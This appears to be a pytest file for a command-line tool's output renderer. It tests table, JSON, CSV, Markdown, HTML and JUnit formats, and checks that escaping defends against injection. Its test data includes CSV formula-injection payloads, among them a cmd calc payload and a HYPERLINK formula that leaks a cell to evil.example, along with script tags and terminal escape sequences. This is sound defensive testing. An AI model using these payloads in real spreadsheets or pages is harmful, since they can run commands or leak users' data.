"""The one renderer: table for people, --json for scripts, --csv for spreadsheets."""
from __future__ import annotations

import csv
import datetime as dt
import enum
import io
import json
from dataclasses import dataclass
from pathlib import PurePosixPath

import re
import xml.etree.ElementTree as ET

import click
import pytest
from click.testing import CliRunner

from opskit.core import output
from opskit.core.errors import EXIT_FINDINGS, EXIT_OK, UsageError
from opskit.core.output import (FORMATS, Case, Result, Suite, Table, csv_safe, dumps, formats,
                                offered, register_format, render, render_csv, render_string,
                                render_table, terminal_safe, to_jsonable)


class Level(enum.Enum):
    LOW = "low"
    HIGH = "high"


@dataclass
class Finding:
    rule: str
    level: Level
    at: dt.datetime


HOSTS = Table(
    columns=["host", "reachable", "users", "note"],
    rows=[{"host": "db1", "reachable": True, "users": ["alice", "bob"], "note": None},
          {"host": "web2", "reachable": False, "users": [], "note": "disk 91%"}],
    title="Hosts",
)


def rendered(result: Result, fmt: str) -> str:
    out = io.StringIO()
    render(result, fmt, out)
    return out.getvalue()


def test_formats_are_the_documented_three():
    assert FORMATS == ("table", "json", "csv")


# --- table -----------------------------------------------------------------------

def test_table_has_title_headers_and_rows():
    lines = render_table(HOSTS).splitlines()
    assert lines[0] == "Hosts"
    assert lines[1].split() == ["HOST", "REACHABLE", "USERS", "NOTE"]
    assert set(lines[2].replace(" ", "")) == {"-"}
    assert lines[3].split() == ["db1", "yes", "alice,", "bob", "-"]
    assert lines[4].split() == ["web2", "no", "disk", "91%"]
    assert len(lines) == 5


def test_table_columns_line_up():
    lines = render_table(HOSTS).splitlines()[1:]
    start = lines[0].index("REACHABLE")
    assert lines[2][start:].startswith("yes") and lines[3][start:].startswith("no")


def test_table_custom_headers_and_column_order():
    table = Table(columns=["b", "a_key"], rows=[{"a_key": 1, "b": 2, "ignored": 3}],
                  headers={"b": "Bee"})
    head, _rule, row = render_table(table).splitlines()
    assert head.split() == ["Bee", "A", "KEY"]
    assert row.split() == ["2", "1"]
    assert "ignored" not in render_table(table) and "3" not in row


def test_table_keeps_strings_that_look_like_numbers():
    table = Table(columns=["uid", "mode"], rows=[{"uid": "007", "mode": "0600"}])
    assert render_table(table).splitlines()[-1].split() == ["007", "0600"]


def test_empty_table_says_none():
    assert render_table(Table(columns=["x"], rows=[], title="Drift")) == "Drift\n(none)"
    assert render_table(Table(columns=["x"], rows=[])) == "(none)"


def test_terminal_safe_escapes_what_a_terminal_would_act_on():
    """#17: ESC, CR, newline, BEL, bidi overrides and zero-width characters become
    visible escapes; printable text, spaces and non-ASCII letters stay."""
    hostile = "ok\x1b[2J\r\n\x07\u202egnp.exe\u200b"
    assert terminal_safe(hostile) == "ok\\x1b[2J\\r\\n\\x07\\u202egnp.exe\\u200b"
    assert terminal_safe("Müller, Zoë  caf\u00e9\u00a0x") == "Müller, Zoë  caf\u00e9\u00a0x"
    walked = terminal_safe({"a": ["x\x1b", ("y\r",)], "n": 3, "none": None})
    assert walked == {"a": ["x\\x1b", ["y\\r"]], "n": 3, "none": None}


def test_table_format_escapes_cells_headers_and_title():
    """A value someone typed cannot clear the screen or fake a row of the table."""
    table = Table(columns=["name\x1b[1m", "reason"],
                  rows=[{"name\x1b[1m": "a\x1b[2J", "reason": "fine\nCR-9  approved\r"}],
                  title="T\u202e", headers={"name\x1b[1m": "NAME\x1b[1m"})
    text = rendered(Result(tables=[table]), "table")
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text
    assert text.count("\n") == 4        # title, header, rule, ONE row
    assert "a\\x1b[2J" in text and "fine\\nCR-9  approved\\r" in text
    assert "NAME\\x1b[1m" in text and text.startswith("T\\u202e\n")


def test_render_table_format_puts_messages_after_tables():
    result = Result(tables=[HOSTS, Table(columns=["x"], rows=[], title="Other")],
                    messages=["2 hosts checked", "1 unreachable"], summary="sum")
    text = rendered(result, "table")
    assert text.endswith("\n\nOther\n(none)\n\n2 hosts checked\n1 unreachable\n")
    assert text.startswith("Hosts\n")
    assert "sum" not in text


def test_render_table_format_messages_only_and_summary_only():
    assert rendered(Result(messages=["one", "two"]), "table") == "one\ntwo\n"
    assert rendered(Result(summary="backup ok: 3 files"), "table") == "backup ok: 3 files\n"
    assert rendered(Result(), "table") == ""


# --- json ------------------------------------------------------------------------

def test_json_prints_data_when_given():
    result = Result(data={"ok": True, "count": 2}, tables=[HOSTS], messages=["ignored"])
    text = rendered(result, "json")
    assert json.loads(text) == {"ok": True, "count": 2}
    assert text.endswith("}\n") and "ignored" not in text


def test_json_falls_back_to_tables_by_title():
    result = Result(tables=[HOSTS, Table(columns=["x"], rows=[{"x": 1}])])
    payload = json.loads(rendered(result, "json"))
    assert payload == {"Hosts": HOSTS.rows, "table1": [{"x": 1}]}
    assert payload["Hosts"][0]["note"] is None and payload["Hosts"][0]["reachable"] is True


def test_json_converts_rich_types():
    when = dt.datetime(2024, 5, 6, 7, 8, 9, tzinfo=dt.timezone.utc)
    data = {"finding": Finding("R-ACC-6", Level.HIGH, when), "raw": b"\xff\x00ok",
            "path": PurePosixPath("/srv/data"), "set": {1}, "tuple": (1, "a"), 3: "int key"}
    assert to_jsonable(data) == {
        "finding": {"rule": "R-ACC-6", "level": "high", "at": "2024-05-06T07:08:09+00:00"},
        "raw": "\\xff\x00ok", "path": "/srv/data", "set": [1], "tuple": [1, "a"], "3": "int key"}
    assert json.loads(dumps(data))["finding"]["level"] == "high"


def test_json_keeps_unicode_and_order():
    text = dumps({"zeta": "Jörg", "alpha": "社保"})
    assert "Jörg" in text and "社保" in text
    assert text.index("zeta") < text.index("alpha")


def test_json_of_empty_result_is_an_empty_object():
    assert json.loads(rendered(Result(), "json")) == {}


# --- csv -------------------------------------------------------------------------

def _parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_has_header_and_rows():
    text = rendered(Result(tables=[HOSTS], messages=["not in csv"]), "csv")
    rows = _parse_csv(text)
    assert rows[0] == ["host", "reachable", "users", "note"]
    assert [r[0] for r in rows[1:]] == ["db1", "web2"]
    assert rows[1][3] == "" and rows[2][3] == "disk 91%"
    assert "not in csv" not in text


def test_csv_quotes_commas_quotes_and_newlines():
    table = Table(columns=["a", "b"], rows=[{"a": 'say "hi", then', "b": "line1\nline2"}])
    rows = _parse_csv(render_csv([table]))
    assert rows[1] == ['say "hi", then', "line1\nline2"]


def test_csv_holds_one_table_the_first_by_default():
    # issue #22 item 6: one file, one set of columns (a script reads it)
    text = render_csv([Table(columns=["a"], rows=[{"a": 1}]), Table(columns=["b"], rows=[{"b": 2}])])
    assert text.splitlines() == ["a", "1"]


def test_select_table_picks_by_name_and_title_and_refuses_unknown_names():
    res = Result(tables=[Table(["a"], [{"a": 1}], title="Summary (host x check)"),
                         Table(["b"], [{"b": 2}], title="Findings"),
                         Table(["c"], [{"c": 3}], name="extra")])
    assert output.select_table(res, None) is res
    assert _parse_csv(rendered(output.select_table(res, "findings"), "csv")) == [["b"], ["2"]]
    assert _parse_csv(rendered(output.select_table(res, "extra"), "csv")) == [["c"], ["3"]]
    assert output.select_table(res, "summary-host-x-check").tables == [res.tables[0]]
    with pytest.raises(UsageError) as err:
        output.select_table(res, "nope")
    assert "\n" not in str(err.value)
    assert "summary-host-x-check, findings, extra" in str(err.value)


def test_csv_carries_raw_values_with_unit_named_headers_while_tables_humanise():
    when = dt.datetime(2024, 5, 6, 7, 8, 9, tzinfo=dt.timezone.utc)
    table = Table(["job", "size", "duration", "last run", "note"],
                  [{"job": "a", "size": 2202009, "duration": 0.4, "last run": when, "note": "-"},
                   {"job": "b", "size": None, "duration": 75.0, "last run": None, "note": None}],
                  kinds={"size": "bytes", "duration": "seconds", "last run": "time"})
    rows = _parse_csv(render_csv([table]))
    assert rows[0] == ["job", "size_bytes", "duration_s", "last_run", "note"]
    assert rows[1] == ["a", "2202009", "0.4", "2024-05-06T07:08:09+00:00", ""]
    assert rows[2] == ["b", "", "75.0", "", ""]          # nothing: empty, never '-' or "'-"
    text = render_table(table)
    assert "2.1 MiB" in text and "0.4s" in text and "1:15" in text
    assert "2024-05-06 07:08:09" in text and "2202009" not in text
    data = json.loads(rendered(Result(tables=[table]), "json"))["table0"]
    assert data[0]["size"] == 2202009 and data[0]["duration"] == 0.4


def test_unit_is_not_named_twice():
    table = Table(["size_bytes", "duration_s"], [], kinds={"size_bytes": "bytes",
                                                          "duration_s": "seconds"})
    assert table.csv_headers() == ["size_bytes", "duration_s"]


def test_table_option_selects_a_table_and_names_them_on_a_typo():
    from opskit.cli.app import App

    @click.command()
    @output_options_()
    @click.pass_obj
    def cmd(app):
        app.emit(Result(tables=[Table(["a"], [{"a": 1}], title="Main"),
                                Table(["b"], [{"b": 2}], title="Other")]))

    runner = CliRunner()
    assert runner.invoke(cmd, ["--csv"], obj=App()).output.splitlines() == ["a", "1"]
    assert runner.invoke(cmd, ["--csv", "--table", "other"], obj=App()).output.splitlines() \
        == ["b", "2"]
    bad = runner.invoke(cmd, ["--csv", "--table", "typo"], obj=App())
    assert bad.exit_code != 0 and isinstance(bad.exception, UsageError)
    assert "main, other" in str(bad.exception)


def output_options_():
    from opskit.cli.app import output_options
    return output_options()


def test_csv_carriage_return_inside_a_cell_cannot_start_a_new_row():
    table = Table(columns=["user", "comment"], rows=[{"user": "mallory", "comment": "ok\r=cmd|' /C calc'!A0"}])
    text = render_csv([table])
    rows = _parse_csv(text)
    assert rows == [["user", "comment"], ["mallory", "ok\r=cmd|' /C calc'!A0"]]
    assert '"ok\r=cmd' in text          # quoted: the CR stays inside the cell


@pytest.mark.parametrize("cell", [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
])
def test_csv_neutralises_formula_injection(cell):
    assert csv_safe(cell) == "'" + cell
    table = Table(columns=["user", "comment"], rows=[{"user": "mallory", "comment": cell}])
    rows = _parse_csv(render_csv([table]))
    assert rows[1][1] == "'" + cell
    assert not rows[1][1].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("cell", ["alice", "a=b", "1+1", "user@example.org", "", " spaced", "'quoted"])
def test_csv_leaves_harmless_cells_alone(cell):
    assert csv_safe(cell) == cell


@pytest.mark.parametrize("cell", ["-", "--", None])
def test_csv_placeholder_for_nothing_is_an_empty_cell(cell):
    assert csv_safe(cell) == ""
    assert csv_safe(-3) == "-3"           # a negative number is a number, not a formula


def test_csv_safe_handles_non_strings():
    assert csv_safe(None) == ""
    assert csv_safe(42) == "42"
    assert csv_safe(Level.LOW) == "low"
    assert csv_safe(dt.datetime(2024, 1, 2, 3, 4, 5)) == "2024-01-02T03:04:05"


def test_csv_neutralises_every_row_and_column():
    rows = [{"a": "=x", "b": "ok"}, {"a": "ok", "b": "@y"}]
    parsed = _parse_csv(render_csv([Table(columns=["a", "b"], rows=rows)]))
    assert parsed[1:] == [["'=x", "ok"], ["ok", "'@y"]]


def test_empty_result_has_empty_csv():
    assert rendered(Result(), "csv") == ""
    assert rendered(Result(tables=[Table(columns=["a", "b"], rows=[])]), "csv").splitlines() == ["a,b"]


# --- the Result itself -------------------------------------------------------------

def test_result_defaults():
    result = Result()
    assert result.exit_code == EXIT_OK and result.tables == [] and result.messages == []
    assert Result(exit_code=EXIT_FINDINGS).exit_code == 1


# --- the format registry (issue #16 item 3) ------------------------------------------

HOSTILE = "<script>alert(1)</script> \x1b[2J\x00\x07 \u202eevil"


def test_every_documented_format_is_registered():
    assert set(formats()) == {"table", "json", "csv", "md", "html", "junit"}
    assert set(FORMATS) < set(formats())


def test_unknown_format_is_a_usage_error():
    with pytest.raises(UsageError, match="unknown output format 'pdf'") as err:
        render(Result(messages=["x"]), "pdf", io.StringIO())
    assert err.value.exit_code == 2
    with pytest.raises(ValueError, match="not registered: pdf"):
        offered(("table", "pdf"))


def test_a_registered_format_is_offered_by_the_commands_that_declare_it(monkeypatch):
    from opskit.cli.app import App, output_options
    monkeypatch.setattr(output, "_RENDERERS", dict(output._RENDERERS))
    register_format("upper", lambda result: "\n".join(result.messages).upper() + "\n")

    @click.command()
    @output_options(formats=("table", "upper"))
    @click.pass_obj
    def cmd(app):
        render(Result(messages=["hello"]), app.output_format, click.get_text_stream("stdout"))

    runner = CliRunner()
    assert runner.invoke(cmd, ["--format", "upper"], obj=App()).output == "HELLO\n"
    assert runner.invoke(cmd, [], obj=App()).output == "hello\n"
    refused = runner.invoke(cmd, ["--format", "csv"], obj=App())   # registered, not offered
    assert refused.exit_code == 2 and "'csv' is not one of 'table', 'upper'" in refused.output
    assert runner.invoke(cmd, ["--csv"], obj=App()).exit_code == 2      # no --csv flag either


def test_html_escapes_hostile_text_and_control_characters():
    result = Result(title=HOSTILE, summary=HOSTILE, messages=[HOSTILE],
                    tables=[Table(["a", "b"], [{"a": HOSTILE, "b": None}], title=HOSTILE),
                            Table(["rule", "x"], [{"rule": HOSTILE, "x": 1}], group_by="rule")])
    page = render_string(result, "html")
    assert page.startswith("<!DOCTYPE html>") and page.count("<style>") == 1
    assert "<script" not in page and "&lt;script&gt;" in page
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202e]", page)
    assert "\\x1b[2J\\x00\\x07" in page and "\\u202eevil" in page
    assert "http" not in page.replace("http-equiv", "")            # nothing fetched
    assert page.index("summary") < page.index("<table>")               # summary first
    plain = render_string(Result(tables=[Table(["a"], [{"a": "<b>ok</b>"}])]), "html")
    assert "&lt;b&gt;ok&lt;/b&gt;" in plain and "<b>" not in plain


def test_markdown_is_inert_and_sections_follow_group_by():
    table = Table(["rule", "who"], [{"rule": "R-2", "who": "a|b"}, {"rule": "R-1", "who": HOSTILE}],
                  title="Findings", group_by="rule", group_titles={"R-1": "First"})
    md = render_string(Result(title="Report", summary="2 findings", tables=[table]), "md")
    assert md.startswith("# Report\n\n2 findings\n")
    assert md.index("### R-1 First (1)") < md.index("### R-2 (1)")
    assert "a\\|b" in md and "<script>" not in md and "&lt;script&gt;" in md
    assert "\x1b" not in md and "\\\\x1b" in md
    assert "| RULE" not in md                                          # the section says it


def test_junit_comes_from_the_result_suites():
    suites = [Suite("db1", [Case("c.pass", "pass", detail="ok evidence", seconds=0.5),
                            Case("c.fail", "fail", "bad", "evidence \x00 here", "R-X"),
                            Case("c.na", "skip", "not here"),
                            Case("c.err", "error", "boom")], seconds=1.0),
              Suite("db2", [Case("connect", "error", "refused", kind="unreachable")])]
    text = render_string(Result(title="checks", suites=suites), "junit")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n')
    root = ET.fromstring(text.split("\n", 1)[1])
    db1 = root.find("./testsuite[@name='db1']")
    assert (db1.get("tests"), db1.get("failures"), db1.get("errors"), db1.get("skipped")) == \
        ("4", "1", "1", "1")
    failure = db1.find("./testcase[@name='c.fail']/failure")
    assert failure.get("type") == "R-X" and failure.text == "evidence \\x00 here"
    assert db1.find("./testcase[@name='c.pass']/system-out").text == "ok evidence"
    assert db1.find("./testcase[@name='c.pass']/failure") is None
    assert root.find("./testsuite[@name='db2']/testcase/error").get("type") == "unreachable"
    assert render_string(Result(), "junit").count("testsuite ") == 0

